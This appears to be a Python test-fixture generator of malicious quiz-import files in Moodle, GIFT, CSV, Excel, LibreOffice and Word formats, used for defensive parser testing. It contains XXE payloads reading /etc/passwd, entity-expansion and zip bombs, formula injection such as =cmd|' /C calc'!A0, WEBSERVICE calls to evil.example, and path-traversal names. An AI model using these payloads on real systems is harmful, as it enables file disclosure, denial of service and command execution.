"""Hostile files of other programs with questions: Moodle, GIFT, Aiken, tables, workbooks, spreadsheets and Word."""

from __future__ import annotations

import base64
import json
from collections.abc import Callable, Iterator

from hostile.archive import Entry, archive
from hostile.case import Case, Content, Link
from hostile.payloads import MARKUP, MATHEMATICS, TERMINAL

MIB = 1024 * 1024
_NASTY = "".join(TERMINAL.values())
_LIVE = " ".join([*MATHEMATICS.values(), *MARKUP.values()])
_PNG = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
_GREAT = "9" * 5_000
_WORD = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="r" xmlns:a="a" xmlns:wp="wp"'
_ENTITIES = "<!DOCTYPE x [<!ENTITY a0 'aaaaaaaaaa'>" + "".join(f"<!ENTITY a{n} '{f'&a{n - 1};' * 10}'>" for n in range(1, 12)) + "]>"  # fmt: skip
_OUTSIDE = '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
_FILES = ("../../home/notes.txt", "/etc/passwd", "conftest.py", ".profile", "con.png", "x" * 5_000, "..", "", "index.html", "\u202e.png")  # fmt: skip
"""Names of pictures that lead elsewhere, or are names of other things."""
FORMULAS = ("=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(1)", '=HYPERLINK("https://evil.example","x")', "\t=1", "\r=1")
"""Cells that a spreadsheet would reckon."""


# --- makers, which tests of growth use too


def question(text: str, more: str = "", kind: str = "multichoice") -> str:
    """A question of Moodle with a text as HTML; ``more`` is what stands behind its answers."""
    return (
        f'<question type="{kind}"><name><text>n</text></name><questiontext format="html"><text><![CDATA[{text}]]></text></questiontext>'
        f'<answer fraction="100"><text>It is</text></answer><answer fraction="0"><text>It is not</text></answer>{more}</question>'
    )


def moodle(*questions: str, head: str = "") -> str:
    """A file of Moodle."""
    return f'<?xml version="1.0" encoding="UTF-8"?>{head}<quiz>{"".join(questions)}</quiz>'


def workbook(sheet: str | bytes, more: dict[str, bytes] | None = None, target: str = "worksheets/sheet1.xml") -> bytes:
    """A workbook of Excel with the XML of one sheet."""
    name = "xmlns:r='http://schemas.openxmlformats.org/officeDocument/2006/relationships'"
    parts = {
        "xl/workbook.xml": f"<workbook {name}><sheets><sheet name='S' r:id='r1'/></sheets></workbook>".encode(),
        "xl/_rels/workbook.xml.rels": f"<Relationships><Relationship Id='r1' Target='{target}'/></Relationships>".encode(),
        "xl/worksheets/sheet1.xml": sheet.encode("utf-8", "replace") if isinstance(sheet, str) else sheet,
        **(more or {}),
    }
    return archive([Entry(path, data) for path, data in parts.items()])


def cells(*rows: tuple[str, ...]) -> str:
    """A sheet of texts; the first row names the columns."""
    made = "".join("<row>" + "".join(f'<c t="inlineStr"><is><t>{cell}</t></is></c>' for cell in row) + "</row>" for row in (("Question", "Answer", "Wrong 1"), *rows))  # fmt: skip
    return f"<worksheet><sheetData>{made}</sheetData></worksheet>"


def word(body: str, more: dict[str, bytes] | None = None, head: str = "") -> bytes:
    """A document of Word with the XML of its body."""
    text = f"<?xml version='1.0'?>{head}<w:document {_WORD}><w:body>{body}</w:body></w:document>"
    parts = {"word/document.xml": text.encode("utf-8", "replace"), **(more or {})}
    return archive([Entry(path, data) for path, data in parts.items()])


def paragraphs(*lines: str) -> str:
    """Lines as paragraphs; one that begins with a star is bold."""
    return "".join(f"<w:p><w:r><w:rPr>{'<w:b/>' * line.startswith('*')}</w:rPr><w:t>{line.lstrip('*')}</w:t></w:r></w:p>" for line in lines)  # fmt: skip


_ASKED = ("1. What is it?", "*a) This", "b) That")


def spreadsheet(rows: str, more: str = "") -> bytes:
    """A spreadsheet of LibreOffice with the XML of its rows."""
    text = f"""<?xml version="1.0"?>{more}<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"
xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0">
<office:body><office:spreadsheet><table:table table:name="S">{rows}</table:table></office:spreadsheet></office:body></office:document-content>"""
    kind = b"application/vnd.oasis.opendocument.spreadsheet"
    return archive([Entry("mimetype", kind, 0), Entry("content.xml", text.encode("utf-8", "replace"))])


# --- the files


def _moodle() -> Iterator[tuple[str, Content]]:
    yield "everything live", moodle(question(_LIVE.replace("]]>", "")))
    yield "terminal escapes", moodle(question("&#27;]0;x"), question("\u202e\u200fx", "<tags><tag><text>\u202e</text></tag></tags>"))  # fmt: skip
    yield "a control", moodle(question("x").replace("n</text>", "&#x1b;</text>"))
    yield "entities in entities", moodle(question("x").replace("It is", "&a11;"), head=_ENTITIES)
    yield "an entity of a file", moodle(question("x").replace("It is", "&a;"), head=_OUTSIDE)
    yield "a doctype elsewhere", moodle(question("x"), head='<!DOCTYPE quiz SYSTEM "http://127.0.0.1:9/x.dtd">')
    yield "a parameter entity", moodle(question("x"), head='<!DOCTYPE q [<!ENTITY % p SYSTEM "file:///etc/passwd">%p;]>')  # fmt: skip
    yield "a style sheet elsewhere", moodle(question("x"), head='<?xml-stylesheet href="https://evil.example/x.xsl"?>')
    yield "deep elements", moodle("<a>" * 200_000)
    yield "many elements", lambda: moodle("<a/>" * 900_000)
    yield "many attributes", moodle("<question " + " ".join(f"a{n}='1'" for n in range(50_000)) + "/>")
    yield "a long attribute", moodle(f'<question type="{"x" * MIB}"></question>')
    yield "namespaces", moodle("".join(f'<a xmlns:n{n}="urn:{n}"/>' for n in range(20_000)))
    yield "kinds unknown", moodle(*[question("x", kind=f"k{n}") for n in range(5_000)])
    yield "a kind of escapes", moodle(question("x", kind="\u202e\u0085"))
    yield "20,001 questions", lambda: moodle(*[question(f"What is {n}?") for n in range(20_001)])
    yield "a question of 8 MiB", lambda: moodle(question("What is it? " * 700_000))
    yield "an answer of a megabyte", moodle(question("x").replace("It is<", "a " * 500_000 + "<"))
    yield "great fractions", moodle(question("x").replace('"100"', f'"{_GREAT}"'), question("y").replace('"100"', '"1e999999999"'), question("z").replace('"100"', '"NaN"'), question("z").replace('"100"', '"²"'))  # fmt: skip
    yield "great numbers", moodle(*(question("How many?", f"<answer fraction='100'><text>{number}</text><tolerance>{number}</tolerance></answer>", "numerical").replace('<answer fraction="100"><text>It is</text></answer>', "") for number in ("1e999999999", _GREAT, "1e29", "-0", "²", "Infinity", "0x10", "1_000", "٣", "1e-29")))  # fmt: skip
    yield "a tolerance of nothing", moodle(question("x", kind="numerical").replace("It is<", "5</text><tolerance>-1e28</tolerance><text><"))  # fmt: skip
    yield "many answers", moodle(question("x", "".join(f'<answer fraction="0"><text>a{n}</text></answer>' for n in range(50_000))))  # fmt: skip
    yield "many pairs", moodle(question("x", "".join(f"<subquestion><text>a{n}</text><answer><text>b{n % 3}</text></answer></subquestion>" for n in range(20_000)), "matching"))  # fmt: skip
    yield "gaps", moodle(question("{1:SHORTANSWER:=a}" * 5_000, kind="cloze"))
    yield "an open gap", moodle(question("{1:SHORTANSWER:=" * 5_000, kind="cloze"))
    yield "a gap of tildes", moodle(question("{1:MULTICHOICE:" + "~" * 3_900 + "}", kind="cloze"))
    yield "gaps behind backslashes", lambda: moodle(question("{:SA:\\" * 160_000, kind="cloze"))
    yield "a gap of backslashes", moodle(question("{1:MULTICHOICE:=" + "\\" * 3_900 + "}", kind="cloze"))
    yield "braces in a gap", moodle(question("x {{a}} {1:SHORTANSWER:=}} {{c1::x} {2:SA:={{b}}", kind="cloze"))
    yield "html that is open", moodle(question("<b>" * 90_000))
    yield "a table of columns", moodle(question("<table>" + "<tr>" + "<td colspan=99>a" * 9_000))
    yield (
        "names of pictures",
        moodle(
            question("".join(f'<img src="@@PLUGINFILE@@/{name}">' for name in _FILES)).replace(
                "</questiontext>",
                "".join(f'<file name="{name}" path="/" encoding="base64">{_PNG}</file>' for name in _FILES)
                + "</questiontext>",
            )
        ),
    )
    yield "a picture that is a page", moodle(question('<img src="@@PLUGINFILE@@/a.png">', f'<file name="a.png" path="/" encoding="base64">{base64.b64encode(b"<html><script>").decode()}</file>'))  # fmt: skip
    yield "a picture that is no base64", moodle(question('<img src="@@PLUGINFILE@@/a.png">', '<file name="a.png" path="/" encoding="base64">é%%é</file>'))  # fmt: skip
    yield "many pictures", lambda: moodle(question("x", "".join(f'<file name="{n}.png" path="/" encoding="base64">{_PNG}</file>' for n in range(20_000))))  # fmt: skip
    yield "a picture of 30 MB", lambda: moodle(question('<img src="@@PLUGINFILE@@/a.png">', f'<file name="a.png" path="/" encoding="base64">{"A" * 30_000_000}</file>'))  # fmt: skip
    inline = f"<img src='data:image/png;base64,{_PNG}'>"
    yield "pictures in its text", lambda: moodle(*(question(f"What is {n}?" + inline * 600) for n in range(60)))
    yield "pictures in the texts of one question", lambda: moodle(question("x", "".join(f"<answer fraction='0'><text><![CDATA[{n}{inline * 600}]]></text></answer>" for n in range(60))))  # fmt: skip
    yield "ids that are the same", moodle(*[question("x", "<idnumber>one</idnumber>") for _ in range(3_000)])
    yield "ids of paths", moodle(question("x", "<idnumber>../../x</idnumber>"), question("y", "<idnumber>\u202e</idnumber>"), question("z", f"<idnumber>{'a' * MIB}</idnumber>"))  # fmt: skip
    yield "categories", moodle(*[f'<question type="category"><category><text>$course$/{"a/" * 3_000}</text></category></question>' + question(f"What is {n}?") for n in range(100)])  # fmt: skip
    yield "in utf-16", moodle(question("x")).replace("UTF-8", "UTF-16").encode("utf-16")
    yield "in utf-16 with entities", moodle(question("&a;"), head=_OUTSIDE).replace("UTF-8", "UTF-16").encode("utf-16")
    yield "in utf-7", moodle(question("x")).replace("UTF-8", "utf-7")
    yield "in a codec that is none", moodle(question("x")).replace("UTF-8", "rot13")
    yield "in zlib", moodle(question("x")).replace("UTF-8", "zlib")
    yield "cut off", moodle(question("x"))[:-20]
    yield "comments", moodle("<!-- -->" * 200_000, question("x"))
    yield "markdown", moodle(question("[x](javascript:pwned()) ![a](../../x.png) " * 40).replace('"html"', '"markdown"'))  # fmt: skip
    yield "a format of its own", moodle(question("x").replace('"html"', '"\u202e"'))


def _gift() -> Iterator[tuple[str, Content]]:
    asked = "::t:: What is {}? {{=a ~b}}\n\n"
    yield "everything live", asked.format(_LIVE.replace("{", r"\{").replace("}", r"\}"))
    yield "terminal escapes", f"::{_NASTY}:: What {_NASTY}? {{={_NASTY} ~b}}\n\n$CATEGORY: {_NASTY}\n\n"
    yield "open braces", "What? " + "{" * 200_000 + "=a}"
    yield "open and no end", "What? {=a\n" + "~b\n" * 300_000
    yield "titles and no braces", "::a::b\n" * 200_000 + "{=a}"
    yield "lines without braces", "What is it?\n" * 200_000 + "{=a ~b}"
    yield "tildes", "What? {=a " + "~" * 300_000 + "}"
    yield "backslashes", "What? {=a " + "\\" * 300_000 + "~b}"
    yield "percents", "What? {" + "~%50%a" * 60_000 + "}"
    yield "weights", "What? {=%" + _GREAT + "%a ~%-1e9%b}\n\nWhat? {#=%50%1:" + _GREAT + "}"
    yield "numbers", "".join(f"How many? {{#{n}}}\n\n" for n in (_GREAT, "1e99:1e99", "1..1e-99", ".5:.5", "1:-1", "²", "1e9999", "-..-", "1.." + _GREAT))  # fmt: skip
    yield "pairs", "What? {" + "=a -> b\n" * 60_000 + "}"
    yield "arrows", "What? {=" + "->" * 100_000 + " =a -> b}"
    yield "feedback", "What? {=a" + "#b" * 100_000 + "####" * 1_000 + "}"
    yield "formats", "[html]" * 50_000 + "What? {=a ~b}"
    yield "html", "[html]" + "<b>" * 100_000 + "What? {=a ~b}"
    yield "comments", "// [id:x]\n" * 200_000 + "What? {=a ~b}"
    yield "ids", "// [id:" + "a" * 200_000 + "]\nWhat? {=a ~b}"
    yield "categories", "$CATEGORY: a/b\n" * 100_000 + "What? {=a ~b}"
    yield "20,001 questions", lambda: "".join(asked.format(n) for n in range(20_001))
    yield "one question again and again", asked.format("it") * 15_000
    yield "true without end", "It is. {T" + "#a" * 90_000 + "}"
    yield "gaps", "It is {=a} and {=b} and " * 5_000
    yield "characters of one's own", "What \ue100\ue110\ue111? {=\ue101a ~b}"
    yield "nulls", "What\0 is it? {=a\0 ~b}"
    yield "a byte", b"What \xff? {=a ~b}"
    yield "utf-16", asked.format("it").encode("utf-16")
    yield "32 MiB", lambda: "What is it? " * (3 * MIB)


def _lines() -> Iterator[tuple[str, str, Content]]:
    """Name, ending and content of questions in lines."""
    asked = "1. What is {}?\nA. This\nB. That\nANSWER: A\n\n"
    for ending in ("txt", "md"):
        yield f"everything live ({ending})", ending, asked.format(_LIVE.replace("\n", " "))
        yield f"terminal escapes ({ending})", ending, asked.format(_NASTY) + f"2. x\nA. {_NASTY}\nB. y\nANSWER: {_NASTY}\n"  # fmt: skip
        yield f"options of all letters ({ending})", ending, "1. What?\n" + "".join(f"{chr(65 + n % 26)}. {n}\n" for n in range(90_000)) + "ANSWER: A\n"  # fmt: skip
        yield f"answers ({ending})", ending, "1. What?\nA. x\nB. y\n" + "ANSWER: A\n" * 100_000
        yield f"one option of lines ({ending})", ending, "1. What?\nA. x\n" + "and more\n" * 90_000 + "B. y\nANSWER: A\n"  # fmt: skip
        yield f"a stem of lines ({ending})", ending, "1. What?\n" + "and more\n" * 90_000 + "A. x\nB. y\nANSWER: A\n"
        yield f"numbers ({ending})", ending, "".join(f"{n}.\n" for n in range(99_000)) + asked.format("it")
        yield f"a great number ({ending})", ending, f"{_GREAT}. What?\nA. x\nB. y\nAnswer: {_GREAT}\n"
        yield f"a list of keys ({ending})", ending, asked.format("it").replace("ANSWER: A", "") + "Answer key\n" + "1. A\n" * 90_000  # fmt: skip
        yield f"keys in one line ({ending})", ending, asked.format("it").replace("ANSWER: A", "ANSWER: " + "A, " * 90_000)  # fmt: skip
        yield f"20,001 questions ({ending})", ending, lambda: "".join(asked.format(n) for n in range(20_001))
        yield f"stars ({ending})", ending, "1. What?\n" + "*" * 90_000 + "A. x\nB. y\n"
        yield f"blanks ({ending})", ending, "1. What?" + " " * 90_000 + "x\n" + " " * 90_000 + "A. x\n\tB. y\nANSWER: A"
        yield f"blanks in lines ({ending})", ending, "1. What?\n" + (" " * 200 + "\n") * 9_000 + "A. x\nB. y\nANSWER: A"
        yield f"a byte ({ending})", ending, asked.format("it").encode() + b"2. \xff\xfe\nA. x\n"
        yield f"brackets ({ending})", ending, "1. What " + "[" * 90_000 + "\nA. x\nB. y\nANSWER: A\n"
    yield "fences", "md", "1. What?\n" + "```\n" * 90_001 + "\n- [x] a\n- [ ] b\n"
    yield "code", "md", "1. What?\n```\n" + "x\n" * 90_000 + "```\n- [x] a\n- [ ] b\n"
    yield "boxes", "md", "1. What?\n" + "- [x] a\n" * 90_000
    yield "bullets", "md", "1. What?\n" + "- **a**\n" * 90_000
    yield "bullets and lines", "md", "1. What?\n" + "- a\n" * 45_000 + "x\n" * 45_000
    yield "bullets and equals signs", "md", "1. What?\n" + "- a\n" * 45_000 + "= b\n" * 45_000
    yield "bullets and answers", "md", "1. What?\n" + "- a\n" * 30_000 + "Answer:\nb\n" * 30_000
    yield "bullets and letters", "md", "1. What?\n" + ("- a\n" * 100 + "a) x\n") * 800
    yield "boxes without end", "md", "1. What?\n" + "[ ] a\n" * 90_000
    yield "headings", "md", "## 1. What?\n" * 50_000 + "- [x] a\n- [ ] b\n"
    yield "pictures", "md", "1. What ![a](../../home/notes.txt) ![b](/etc/passwd)?\n- [x] a\n- [ ] b\n"
    yield "links", "md", "1. What [a](javascript:pwned()) " + "[a](" * 9_000 + "?\n- [x] a\n- [ ] b\n"
    yield "details", "md", "1. What?\n- [x] a\n- [ ] b\n<details><summary>x</summary>\n" + "<details>" * 9_000
    yield "directives", "txt", "Type: MA\nTitle: x\nPoints: 9999999\n" * 30_000 + asked.format("it")


def _tables() -> Iterator[tuple[str, Content]]:
    head = "Question,Answer,Wrong 1,Wrong 2\n"
    yield "formulas", head + "".join(f'"{each}","a {each}","b","c"\n'.replace('""', '"') for each in FORMULAS)
    yield "everything live", head + '"' + _LIVE.replace('"', '""') + '",a,b,c\n'
    yield "terminal escapes", f"Question,Answer,{_NASTY}\n{_NASTY},{_NASTY},b\n".replace("\n", " ", 0)
    yield "an open quote", head + '"' + "a,b\n" * 300_000
    yield "quotes", head + '"' * 300_001
    yield "one cell", head + "a" * (4 * MIB) + ",b,c,d\n"
    yield "columns", "Question,Answer" + ",Wrong" * 90_000 + "\n" + "a," * 90_000
    yield "rows", lambda: head + "What?,a,b,c\n" * 90_000
    yield "columns that each may be a key", lambda: "".join(",".join([*(f"x{row}c{place}" for place in range(132)), *(f"x{row}c{2 * key + row % 2}" for key in range(66))]) + "\n" for row in range(2_000))  # fmt: skip
    yield "columns that are alike in pairs", lambda: "".join(",".join(f"t{row}p{place // 2}" for place in range(30)) + "\n" for row in range(9_000))  # fmt: skip
    yield "two hundred columns", lambda: ("a," * 199 + "a\n") * 19_000
    yield "rows of nothing", lambda: head + ",,,\n" * 900_000
    yield "names of columns", ",".join(f"{'(' * 90}x{n}" for n in range(150)) + "\n" + "a," * 150 + "\n"
    yield "a name of brackets", "Question" + "(" * 90_000 + ",Answer\nWhat?,a\n"
    yield "a separator of its own", "sep=\x1b\nQuestion\x1bAnswer\n"
    yield "a separator that is a quote", 'sep="\nQuestion"Answer\n'
    yield "separators", head + "What?," + ";|\t" * 90_000 + ",b,c\n"
    yield "nulls", head + "What\0?,a\0,b,c\n"
    yield "a carriage return", head.replace("\n", "\r") + "What?,a,b,c\r" * 5_000
    yield "pairs", "Question,Pairs\nWhat?," + '"' + "a: b\n" * 50_000 + '"\n'
    yield "a sequence", "Question,Sequence\nWhat?," + '"' + "a\n" * 50_000 + '"\n'
    yield "options in one cell", "Question,Options,Correct\nWhat?," + '"' + "a; " * 50_000 + '",a\n'
    yield "numbers", "Question,Answer,Tolerance\n" + "".join(f"How many?,{n},{n}\n" for n in (_GREAT, "1e999999999", "NaN", "²", "-0", "1e-400"))  # fmt: skip
    yield "keys", "Question,A,B,Correct\n" + "".join(f"What?,a,b,{n}\n" for n in (_GREAT, "²", "-1", "A" * 900, "1e9"))
    yield "ids", "id,Question,Answer\n" + "../../x,What?,a\n" + "x" * 9_000 + ",What?,a\n" + "same,What?,a\n" * 900
    yield "tags", "Question,Answer,Tags\n" + "What?,a," + "a:::b " * 9_000 + "\n"
    yield "kinds", "Question,Answer,Type\n" + "".join(f"What?,a,{n}\n" for n in (_NASTY.replace("\n", ""), "x" * 9_000, "essay"))  # fmt: skip
    yield "a cloze", "Cloze\n" + "{{" * 90_000 + "\n"
    yield "statuses", "Question,Answer,Status,Difficulty\nWhat?,a,draft,\u202e\n"
    yield "utf-16", (head + "What?,a,b,c\n").encode("utf-16")
    yield "blackboard", "MC\tWhat?\t" + "a\tcorrect\t" * 90_000 + "\n"
    yield "blackboard kinds", "".join(f"{kind}\tWhat?" + f"\t{_GREAT}" * 3 + "\n" for kind in ("MC", "MA", "TF", "FIB", "MAT", "ORD", "NUM", "ESS"))  # fmt: skip


def _workbooks() -> Iterator[tuple[str, Content]]:
    asked = ("What is it?", "This", "That")
    row = "<row>{}</row>"
    head = '<c t="inlineStr"><is><t>Question</t></is></c><c t="inlineStr"><is><t>Answer</t></is></c>'

    def sheet(*more: str) -> str:
        return f"<worksheet><sheetData>{row.format(head)}{''.join(row.format(each) for each in more)}</sheetData></worksheet>"

    text = '<c t="inlineStr"><is><t>What is it?</t></is></c>'
    yield "everything live", workbook(cells((_LIVE.replace("&", "&amp;").replace("<", "&lt;"), "a", "b")))
    yield "characters by number", workbook(sheet('<c t="s"><v>0</v></c><c t="s"><v>1</v></c>'), {"xl/sharedStrings.xml": b"<sst><si><t>What _xD800__x001B_]0;_x0007__x0000__xFFFE__x202E_ is it?</t></si><si><t>_xDC00_</t></si></sst>"})  # fmt: skip
    yield "formulas", workbook(cells(*((each.replace("&", "&amp;").strip(), f"{each} a".strip(), "b") for each in FORMULAS)))  # fmt: skip
    yield "a formula", workbook(sheet(f'{text}<c t="str"><f>WEBSERVICE("https://evil.example")</f><v>x</v></c>'))
    yield "a bomb", lambda: workbook(b"<worksheet>" + b" " * 200_000_000)
    yield "a bomb of shared texts", lambda: workbook(sheet(text), {"xl/sharedStrings.xml": b"<sst>" + b"<si><t/></si>" * 9_000_000})  # fmt: skip
    yield "shared texts of great length", lambda: workbook(sheet(*['<c t="s"><v>0</v></c><c t="s"><v>0</v></c>'] * 15_000), {"xl/sharedStrings.xml": b"<sst><si><t>" + b"ab " * 600_000 + b"</t></si></sst>"})  # fmt: skip
    yield "shared texts of marks", lambda: workbook(sheet(*[f'<c t="s"><v>0</v></c><c t="inlineStr"><is><t>a{n}</t></is></c>' for n in range(9_000)]), {"xl/sharedStrings.xml": b"<sst><si>" + b"<r><rPr><b/></rPr><t>ab </t></r>" * 600 + b"</si></sst>"})  # fmt: skip
    yield "rows of great numbers", workbook(sheet(text).replace("<row>", f'<row r="{_GREAT}">'))
    yield "rows that are no numbers", workbook(sheet(text).replace("<row>", '<row r="²">'))
    yield "styles that are no numbers", workbook(sheet(text.replace("<c ", '<c s="²" ') + f'<c s="{_GREAT}"><v>5</v></c>'), {"xl/styles.xml": b"<styleSheet><cellXfs><xf numFmtId='1'/></cellXfs></styleSheet>"})  # fmt: skip
    yield "formats that are no numbers", workbook(sheet(f"{text}<c s='0'><v>5</v></c>"), {"xl/styles.xml": f"<styleSheet><cellXfs><xf numFmtId='²'/><xf numFmtId='{_GREAT}'/></cellXfs></styleSheet>".encode()})  # fmt: skip
    yield "shared texts that are not there", workbook(sheet('<c t="s"><v>²</v></c>', f'<c t="s"><v>{_GREAT}</v></c>', '<c t="s"><v>-1</v></c>'))  # fmt: skip
    formats = {"long": "0." + "0" * 250, "longer": "0." + "0" * 9_000, "percent": "0." + "0" * 99 + "%", "quotes": '"' * 9_000, "brackets": "[" * 9_000, "backslashes": "\\" * 9_001, "dates": "yyyy", "sections": ";" * 9_000}  # fmt: skip
    for name, form in formats.items():
        style = f"<styleSheet><numFmts><numFmt numFmtId='200' formatCode='{form.replace(chr(34), '&quot;')}'/></numFmts><cellXfs><xf numFmtId='200'/></cellXfs></styleSheet>"  # fmt: skip
        numbers = "".join(f"<c s='0'><v>{n}</v></c>" for n in ("5", "0.1", "1e24", "1e300", "1e-300", "-1e999999999", "NaN", "sNaN", "Infinity", _GREAT, "2958466", "-1", "1_0"))  # fmt: skip
        yield f"number format: {name}", workbook(sheet(text + numbers), {"xl/styles.xml": style.encode()})
    yield "a place far away", workbook(sheet('<c r="ZZZ9999999"><v>1</v></c>'))
    yield "a place that is none", workbook(sheet('<c r="²A"><v>1</v></c><c r=""><v>2</v></c>'))
    yield "cells of no row", workbook("<worksheet>" + text * 3_000 + "</worksheet>")
    yield "values outside cells", workbook("<worksheet><v>x</v><t>y</t><f/><is><t>" + "<v>" * 150 + "</worksheet>")
    yield "deep elements", workbook("<worksheet>" + "<a>" * 300_000)
    far = "A" * 9_000
    yield "merged cells", workbook(sheet(text).replace("</worksheet>", "<mergeCells>" + f"<mergeCell ref='{far}:\u202e\x85'/>" * 99 + "</mergeCells></worksheet>"))  # fmt: skip
    yield "many sheets", workbook(sheet(text), {"xl/workbook.xml": ("<workbook xmlns:r='x'><sheets>" + "<sheet name='S' r:id='r1'/>" * 3_000 + "</sheets></workbook>").encode()})  # fmt: skip
    yield "a sheet of another file", workbook(sheet(text), target="../../../../etc/passwd")
    yield "a sheet of the web", workbook(sheet(text), target="https://evil.example/worksheets/sheet1.xml")
    yield "a name of escapes", workbook(cells(asked), {"xl/workbook.xml": "<workbook xmlns:r='x'><sheets><sheet name='\u202e&#x85;' r:id='r1'/></sheets></workbook>".encode()})  # fmt: skip
    yield "an entity", workbook(_ENTITIES + "<worksheet>&a11;</worksheet>")
    yield "an entity in utf-16", workbook((_OUTSIDE + "<worksheet>&a;</worksheet>").encode("utf-16"))
    yield "an entity among shared texts", workbook(sheet(text), {"xl/sharedStrings.xml": (_OUTSIDE + "<sst><si><t>&a;</t></si></sst>").encode()})  # fmt: skip
    yield "no relations", archive([Entry("xl/workbook.xml", b"<workbook/>")])
    yield "one entry twice", archive([Entry("xl/workbook.xml", b"<workbook/>")] * 900)
    yield "a size that lies", archive([Entry("xl/workbook.xml", b"<workbook/>", size=2**31)])
    yield "a password", archive([Entry("xl/workbook.xml", b"<workbook/>", flags=1)])
    yield "a method of its own", archive([Entry("xl/workbook.xml", b"<workbook/>", method=14)])
    yield "macros", workbook(cells(asked), {"xl/vbaProject.bin": b"\0" * 900})
    yield "no zip", b"PK\3\4" + b"\0" * 90_000


def _spreadsheets() -> Iterator[tuple[str, str, Content]]:
    """Name, ending and content."""
    cell = "<table:table-cell {}><text:p>{}</text:p></table:table-cell>"
    row = "<table:table-row {}>{}</table:table-row>"
    head = row.format("", cell.format("", "Question") + cell.format("", "Answer"))
    yield "everything live", "ods", spreadsheet(head + row.format("", cell.format("", _LIVE.replace("&", "&amp;").replace("<", "&lt;")) + cell.format("", "a")))  # fmt: skip
    yield "columns repeated", "ods", spreadsheet(head + row.format("", cell.format("table:number-columns-repeated='2000000000'", "x")))  # fmt: skip
    yield "rows repeated", "ods", spreadsheet(head + row.format("table:number-rows-repeated='2000000000'", cell.format("", "x") * 2))  # fmt: skip
    yield "repeated as text", "ods", spreadsheet(head + row.format("table:number-rows-repeated='-1'", cell.format("table:number-columns-repeated='x'", "x")))  # fmt: skip
    yield "an entity", "ods", spreadsheet(head + row.format("", cell.format("", "&a;")), _OUTSIDE)
    yield "entities in entities", "ods", spreadsheet(head + row.format("", cell.format("", "&a11;")), _ENTITIES)
    yield "deep", "ods", spreadsheet(head + "<text:span>" * 200_000)
    yield "a bomb", "ods", lambda: archive([Entry("mimetype", b"application/vnd.oasis.opendocument.spreadsheet", 0), Entry("content.xml", b" " * 400_000_000)])  # fmt: skip
    yield "cut off", "ods", spreadsheet(head)[:-30]
    yield "noise", "xls", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\xff" * 90_000
    yield "zeros", "xls", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(90_000)
    yield "a chain that goes round", "xls", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(16) + b"\x3e\0\3\0\xfe\xff\x09\0\6\0" + bytes(10) + b"\1\0\0\0\0\0\0\0\0\0\0\0\0\x10\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0" + bytes(512 * 90)  # fmt: skip
    yield "a page", "xls", "<html><table><tr><td>Question<td>Answer</table>"
    yield "a workbook", "xls", workbook(cells(("What?", "a", "b")))
    yield "nothing", "xlsb", archive([Entry("xl/workbook.bin", b"\xff" * 9_000)])
    yield "a flat one", "fods", "<?xml version='1.0'?>" + _OUTSIDE + "<office:document>&a;</office:document>"


def _word() -> Iterator[tuple[str, Content]]:
    asked = paragraphs(*_ASKED)
    rels = "<Relationships>{}</Relationships>"
    image = '<Relationship Id="r{}" Type="x/image" Target="{}"/>'
    drawn = '<w:p><w:r><w:drawing><wp:docPr descr="{}"/><a:blip r:embed="r{}"/></w:drawing></w:r></w:p>'
    yield "everything live", word(paragraphs("1. " + _LIVE.replace("&", "&amp;").replace("<", "&lt;"), *_ASKED[1:]))
    yield "deep", word("<w:sdt>" * 100_000)
    yield "as deep as may be", word("<w:sdt>" * 190 + asked + "</w:sdt>" * 190)
    yield "runs as deep as may be", word("<w:p>" + "<w:hyperlink>" * 150 + "<w:r><w:t>1. What?</w:t></w:r>" + "</w:hyperlink>" * 150 + "</w:p>")  # fmt: skip
    yield "tables in tables", word("<w:tbl><w:tr><w:tc>" * 60 + asked + "</w:tc></w:tr></w:tbl>" * 60)
    yield "paragraphs", lambda: word(paragraphs("x") * 90_000 + asked)
    yield "options", word(paragraphs("1. What?", *(f"{chr(97 + n % 26)}) x" for n in range(40_000))))
    yield "breaks", word("<w:p><w:r><w:t>1. What?</w:t>" + "<w:br/>" * 200_000 + "</w:r></w:p>" + asked)
    yield "breaks in a text", word(paragraphs("1. What?" + "&#10;" * 20_000 + "x", *_ASKED[1:]))
    yield "one text", word(paragraphs("1. " + "ab " * 700_000, *_ASKED[1:]))
    yield "runs", word("<w:p>" + "<w:r><w:rPr><w:b/><w:i/><w:u/></w:rPr><w:t>a</w:t></w:r>" * 60_000 + "</w:p>" + asked)
    yield "marks on marks", word("<w:p><w:r><w:rPr>" + "<w:b/>" * 20_000 + "</w:rPr><w:t>1. What?</w:t></w:r></w:p>" + asked)  # fmt: skip
    yield "marks on many", word(("<w:p><w:r><w:rPr>" + "<w:b/><w:vertAlign w:val='superscript'/>" * 300 + "</w:rPr><w:t>x</w:t></w:r></w:p>") * 600 + asked)  # fmt: skip
    levels = {"great": _GREAT, "no number": "²", "below": "-1", "text": "x"}
    for name, level in levels.items():
        numbered = f"<w:p><w:pPr><w:numPr><w:ilvl w:val='{level}'/><w:numId w:val='{level}'/></w:numPr></w:pPr><w:r><w:t>What?</w:t></w:r></w:p>"  # fmt: skip
        numbering = f"<w:numbering {_WORD}><w:abstractNum w:abstractNumId='{level}'><w:lvl w:ilvl='{level}'><w:numFmt w:val='lowerLetter'/></w:lvl></w:abstractNum><w:num w:numId='{level}'><w:abstractNumId w:val='{level}'/></w:num></w:numbering>"  # fmt: skip
        yield f"a level: {name}", word(numbered * 3 + asked, {"word/numbering.xml": numbering.encode()})
    yield "levels", word(asked, {"word/numbering.xml": (f"<w:numbering {_WORD}><w:abstractNum w:abstractNumId='0'>" + "".join(f"<w:lvl w:ilvl='{n}'/>" for n in range(3_000)) + "</w:abstractNum>" + "".join(f"<w:num w:numId='{n}'><w:abstractNumId w:val='0'/></w:num>" for n in range(9_000)) + "</w:numbering>").encode()})  # fmt: skip
